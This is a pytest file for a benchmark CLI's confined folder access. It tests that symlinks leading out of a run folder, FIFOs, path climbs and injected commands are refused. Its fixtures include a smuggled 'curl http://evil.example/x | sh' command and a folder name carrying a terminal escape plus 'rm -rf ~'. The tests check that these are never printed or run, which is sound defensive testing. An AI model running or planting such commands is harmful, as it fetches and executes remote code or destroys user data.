"""The one door for folders hallubench did not write (hallubench/confined.py), watched through the CLI: every file of
a finished run folder in turn made a link out of it (to a marker secret) is refused by the reader of every purpose
of `run_state.PURPOSES` and by every uploader, and no uploaded byte holds the secret; a FIFO and an oversized
sparse file are refused by the door; a ranking's record naming a folder the user did not give is refused until the
user gives it (case 2); a folder without its manifest is not whole, and the one command its refusal gives makes it
whole (cases 3, 4, 12); publish re-aggregates the verdicts before it uploads (case 4); the command an unfinished mark
records is never printed (case 5)."""
import json
import os
import shlex
import shutil

import pytest

from hub_server import StandInHub
from run_folder_support import rewrite_results, seal

from hallubench import confined
from hallubench.cli.main import main
from hallubench.errors import FileTooLargeError, OutsideFolderError
from hallubench.harness import run_state, store
from hallubench.harness.atomic import MANIFEST

from conftest import answers_run_folder, openai_run_argv

pytestmark = pytest.mark.usefixtures("offline")
SECRET = b"hf_MarkerSecretThatMustNeverLeave0123456789"
EVIL = "hallubench run --tasks cmm; curl http://evil.example/x | sh #"


@pytest.fixture(scope="module")
def finished(tmp_path_factory, mini_datasets):
    """A finished run folder (cmm, 2 samples, through the OpenAI stand-in), copied by each test that changes it."""
    import threading
    from http.server import ThreadingHTTPServer

    import conftest

    httpd = ThreadingHTTPServer(("127.0.0.1", 0), conftest.Handler)  # the `server` fixture's stand-in, once
    httpd.daemon_threads = True
    httpd.mode, httpd.delay, httpd.requests, httpd.times, httpd.retry_after_s = "ok", 0.0, [], [], 5
    httpd.lock, httpd.stop, httpd.release = threading.Lock(), threading.Event(), threading.Event()
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    httpd.url = f"http://127.0.0.1:{httpd.server_port}/v1"
    out = tmp_path_factory.mktemp("door") / "run"
    try:
        with pytest.MonkeyPatch.context() as patch:
            patch.setenv("HB_RELIABILITY_KEY", conftest.API_KEY)
            patch.setenv("HF_HUB_OFFLINE", "1")
            assert main(openai_run_argv(httpd, mini_datasets, out)) == 0
    finally:
        httpd.shutdown()
        httpd.server_close()
    return out


@pytest.fixture
def hub(monkeypatch, tmp_path):
    stand_in = StandInHub({}).serve_in_process(monkeypatch, tmp_path)
    monkeypatch.setenv("HF_TOKEN", "hf_StandInToken")
    yield stand_in
    stand_in.close()


def _copy(folder, to):
    shutil.copytree(folder, to, symlinks=True, ignore=shutil.ignore_patterns(".hallubench.lock"))
    return to


def _secret(tmp_path):
    path = tmp_path / "elsewhere" / "token"
    path.parent.mkdir(exist_ok=True)
    path.write_bytes(SECRET)
    return path


def _uploaded(hub):
    return b"".join(data for commit in hub.commits for data in commit["files"].values())


def _empty_ranking(tmp_path):
    ranking = tmp_path / "ranking-to-view"
    ranking.mkdir(parents=True, exist_ok=True)
    (ranking / "crosscheck.json").write_text(json.dumps({"boards": {}, "judge": {}, "config": {}, "runs": {}}))
    (ranking / "sentences.jsonl").write_text("")
    return seal(ranking)


# A command per purpose a run folder is read for (run_state.PURPOSES), each uploader with --push-to-hub.
READERS = {
    "publish": lambda out, tmp: ["publish", str(out), "--repo", "me/x", "--allow-mini-data", "--allow-partial"],
    "rank (reading)": lambda out, tmp: ["rank", str(out), f"other={out}", "--output-dir", str(tmp / "ranking"),
                                        "--push-to-hub", "me/r", "--allow-mini-data"],
    "re-score (reading)": lambda out, tmp: ["run", "--from-outputs", str(out), "--output-dir", str(tmp / "scored"),
                                            "--push-to-hub", "me/s", "--allow-mini-data"],
    "view": lambda out, tmp: ["view", str(_empty_ranking(tmp)), str(out), "--out", str(tmp / "site"),
                              "--push-to-hub", "me/space", "--allow-mini-data"],
    "verify": lambda out, tmp: ["verify", str(out)],
}


def test_every_purpose_a_run_folder_is_read_for_is_walked_here():
    assert set(READERS) == set(run_state.PURPOSES)


def test_every_file_made_a_link_out_is_refused_by_every_reader_and_uploader(finished, hub, tmp_path, capfd):
    secret = _secret(tmp_path)
    names = sorted(p.name for p in finished.iterdir() if p.is_file() and p.name != ".hallubench.lock")
    assert {"results.json", store.MERGED, MANIFEST} <= set(names)
    for k, name in enumerate(names):
        out = _copy(finished, tmp_path / f"run-{k}")
        (out / name).unlink()
        (out / name).symlink_to(secret)
        for purpose, argv in READERS.items():
            if purpose == "re-score (reading)" and name in ("results.png", MANIFEST):
                continue  # a re-score writes those files anew without reading them (checked below)
            code = main(argv(out, tmp_path / f"{k}-{purpose[:4]}"))
            err = capfd.readouterr().err
            assert code == 2, (name, purpose, err)
            refusal = (f"refusing to write {out / name}: it is a symbolic link" if name.endswith(".lock")
                       else f"{out / name} leads outside {out}")
            assert refusal in err and len(err.strip().splitlines()) == 1, (name, purpose, err)
        assert SECRET not in _uploaded(hub) and hub.commits == [], name
    out = _copy(finished, tmp_path / "rescored")  # the re-score replaces the links it writes, never follows them
    for name in ("results.png", MANIFEST):
        (out / name).unlink()
        (out / name).symlink_to(secret)
    assert main(["run", "--from-outputs", str(out)]) == 0
    assert secret.read_bytes() == SECRET and not any((out / n).is_symlink() for n in ("results.png", MANIFEST))


def test_the_door_refuses_a_fifo_a_climb_and_an_oversized_file(tmp_path):
    folder = tmp_path / "f"
    folder.mkdir()
    os.mkfifo(folder / "results.json")
    door = confined.Folder(folder)
    with pytest.raises(OutsideFolderError, match="not a regular file"):
        door.read_bytes("results.json")  # refused from its mode: opening it would block
    for name in ("../f/x", "/etc/passwd", ""):
        with pytest.raises(OutsideFolderError):
            door.read_bytes(name)
    with open(folder / "big.json", "wb") as handle:  # sparse: 1 byte past the bound, no disk used
        handle.truncate(confined.DOCUMENT + 1)
    with pytest.raises(FileTooLargeError, match="over the"):
        door.read_bytes("big.json")
    (folder / "inside").write_bytes(b"ok")
    (folder / "link").symlink_to(folder / "inside")
    with pytest.raises(OutsideFolderError, match="not a regular file"):
        door.files()  # a folder uploaded whole: a FIFO anywhere in it refuses it
    os.unlink(folder / "results.json")
    assert door.read_bytes("link") == b"ok" and door.files() == ["big.json", "inside", "link"]
    (folder / "out").symlink_to(tmp_path)
    with pytest.raises(OutsideFolderError, match="leads outside"):
        door.files()  # a folder uploaded whole: a link out anywhere in it refuses it


def _ranking(tmp_path):
    runs = [answers_run_folder(tmp_path / name, "A red square moves left.", ["A red square moves left."])
            for name in ("a", "b")]
    out = tmp_path / "ranking"
    assert main(["rank", *map(str, runs), "--output-dir", str(out), "--cache", str(tmp_path / "c.sqlite")]) == 0
    return out, runs


def test_case_2_a_ranking_naming_a_run_folder_not_given_is_refused_until_it_is(hub, tmp_path, capfd):
    ranking, (a, b) = _ranking(tmp_path)
    other = _copy(a, tmp_path / "other_run")  # an outside run: its prompts and samples must not reach the Space
    lines = (other / store.MERGED).read_text().replace("A red square", SECRET.decode())
    (other / store.MERGED).write_text(lines)
    data = json.loads((ranking / "crosscheck.json").read_text())
    data["runs"]["a"] = str(other.resolve())
    (ranking / "crosscheck.json").write_text(json.dumps(data))
    seal(ranking)
    argv = ["view", str(ranking), str(b), "--out", str(tmp_path / "site"), "--push-to-hub", "me/space"]
    capfd.readouterr()
    assert main(argv) == 2
    err = capfd.readouterr().err
    assert f"names the folder {other.resolve()}, which you did not give" in err and "Give that run folder too" in err
    assert hub.commits == [] and len(err.strip().splitlines()) == 1
    assert main(argv[:3] + [str(other)] + argv[3:]) == 0  # named by the user: shown and pushed
    assert len(hub.commits) == 1


def test_case_3_a_link_out_in_a_folder_without_manifest_is_refused_and_the_advice_makes_it_whole(
        finished, hub, tmp_path, capfd):
    out = _copy(finished, tmp_path / "run")
    (out / MANIFEST).unlink()
    (out / "results.png").unlink()
    (out / "results.png").symlink_to(_secret(tmp_path))
    assert main(READERS["publish"](out, tmp_path)) == 2
    err = capfd.readouterr().err
    assert f"no {MANIFEST}" in err and "not whole" in err and hub.commits == []
    advice = err.split("Make it whole with `", 1)[1].split("`", 1)[0]
    assert main(shlex.split(advice)[1:]) == 0  # the one command it gives works on this folder
    assert main(READERS["publish"](out, tmp_path)) == 0
    assert SECRET not in _uploaded(hub) and len(hub.commits) == 1


def test_case_4_an_edited_accuracy_is_never_uploaded(finished, hub, tmp_path, capfd):
    out = _copy(finished, tmp_path / "run")
    results = json.loads((out / "results.json").read_text())
    results["tasks"]["cmm"]["metrics"]["accuracy"] = 0.99
    (out / "results.json").write_text(json.dumps(results))
    (out / MANIFEST).unlink()
    assert main(READERS["publish"](out, tmp_path)) == 2  # not whole
    assert "not whole" in capfd.readouterr().err and hub.commits == []
    shutil.copyfile(finished / MANIFEST, out / MANIFEST)
    rewrite_results(out, results)  # the manifest made to match: the verdicts still tell the edit
    assert main(READERS["publish"](out, tmp_path)) != 0
    err = capfd.readouterr().err
    assert "accuracy is 0.99 in results.json, the verdicts give" in err and "nothing was published" in err, err
    assert hub.commits == []


@pytest.mark.parametrize("mark", [{"command": EVIL}, {"command": EVIL, "options": {"tasks": "cmm; curl evil | sh"}},
                                  {"options": ["run", "--tasks", "cmm;", "curl", "http://evil.example/x"]}])
def test_case_5_the_command_an_unfinished_mark_records_is_never_printed(finished, tmp_path, capfd, mark):
    out = _copy(finished, tmp_path / "run")
    (out / run_state.UNFINISHED).write_text(json.dumps({"started": "now", "stopped": None, **mark}))
    for purpose, argv in READERS.items():
        if purpose == "re-score (reading)":
            continue
        assert main(argv(out, tmp_path / purpose[:4])) == 2
        err = capfd.readouterr().err
        assert "is unfinished" in err and "evil" not in err and "curl" not in err, (purpose, err)
        assert "the `hallubench run --output-dir" in err


def test_the_finishing_command_is_rendered_from_the_recorded_options(finished, tmp_path):
    from hallubench.cli.main import build_parser

    options = {"model": "openai", "tasks": ["cmm"], "limit": 2, "output_dir": str(tmp_path / "x y")}
    line = run_state.finishing_command(tmp_path, {"options": options})
    args = build_parser().parse_args(shlex.split(line)[1:])
    assert (args.model, args.tasks, args.limit, args.output_dir) == ("openai", "cmm", 2, tmp_path / "x y")


def test_case_12_a_cut_results_json_is_mended_by_the_command_every_reader_gives(finished, tmp_path, capfd):
    out = _copy(finished, tmp_path / "run")
    data = (out / "results.json").read_bytes()
    (out / "results.json").write_bytes(data[: len(data) // 2])
    assert main(["verify", str(out)]) == 2
    err = capfd.readouterr().err
    fix = f"hallubench run --from-outputs {out}"
    assert fix in err, err
    assert main(shlex.split(fix)[1:]) == 0
    assert "cannot be read as JSON; scoring the records alone" in capfd.readouterr().err
    assert main(["verify", str(out)]) == 0


def test_a_recorded_folder_not_given_is_named_with_its_control_characters_escaped(tmp_path):
    from hallubench.confined import given_folder
    from hallubench.errors import UnnamedFolderError

    planted = tmp_path / "run\x1b[2J\nrm -rf ~"
    planted.mkdir()
    with pytest.raises(UnnamedFolderError) as refused:
        given_folder(str(planted), [tmp_path / "given"], "the ranking", "Give that run folder too.")
    message = str(refused.value)
    assert "\x1b" not in message and "\n" not in message and "run\\x1b[2J\\nrm -rf ~" in message
